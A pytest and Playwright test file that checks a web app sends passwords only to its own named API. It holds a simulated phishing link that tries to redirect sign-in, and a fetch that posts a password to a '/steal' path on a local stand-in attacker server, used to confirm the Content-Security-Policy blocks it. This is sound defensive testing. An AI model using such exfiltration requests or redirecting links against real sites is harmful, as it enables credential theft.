"""Where the app sends passwords: only to the API its own page names. A link cannot point it
elsewhere, and the Content-Security-Policy blocks requests to any other origin."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from conftest import PASSWORD

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
]


class _Recorder(BaseHTTPRequestHandler):
    """A server "elsewhere" that answers like an API and writes down every request."""

    seen: list[str]

    def _answer(self) -> None:
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Headers", "*")
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"access": "x", "refresh": "y"}')

    do_GET = do_POST = do_OPTIONS = _answer

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    server.server_close()
    thread.join()


def test_an_api_parameter_in_a_link_does_not_move_the_sign_in(
    page, static_server, make_user, sign_in, elsewhere
):
    make_user("alice")
    origin, seen = elsewhere
    # A phishing link, and what an older version of the app remembered from one.
    page.goto(f"{static_server}/?api={origin}/api/v1")
    page.evaluate("(origin) => localStorage.setItem('apiBase', origin + '/api/v1')", origin)
    page.goto(f"{static_server}/?api={origin}/api/v1")

    sign_in("alice", PASSWORD)

    expect(page.get_by_text("Signed in as alice")).to_be_visible()
    assert seen == []
    assert page.evaluate("() => localStorage.getItem('apiBase')") is None


def test_a_request_to_another_origin_is_blocked_by_the_policy(browser, app_url, elsewhere):
    origin, seen = elsewhere
    # A tab of its own: the `page` fixture fails any test whose page breaks the policy.
    page = browser.new_page()
    violations: list[str] = []
    page.on("console", lambda message: violations.append(message.text))
    page.goto(app_url)

    outcome = page.evaluate(
        "(url) => fetch(url, {method: 'POST', body: 'password=secret'})"
        ".then(() => 'sent', () => 'blocked')",
        f"{origin}/steal",
    )

    assert outcome == "blocked"
    assert seen == []
    assert any("Content Security Policy" in text for text in violations)
    page.close()


def test_the_app_page_names_its_api_and_sends_the_policy(page, static_server, live_server):
    from urllib.parse import urlsplit

    response = page.request.get(f"{static_server}/")
    api_origin = f"http://127.0.0.1:{urlsplit(live_server.url).port}"
    policy = response.headers["content-security-policy"]
    assert f"connect-src 'self' {api_origin};" in policy
    assert "script-src 'self';" in policy
    assert f'<meta name="api-base" content="{api_origin}/api/v1">' in response.text()
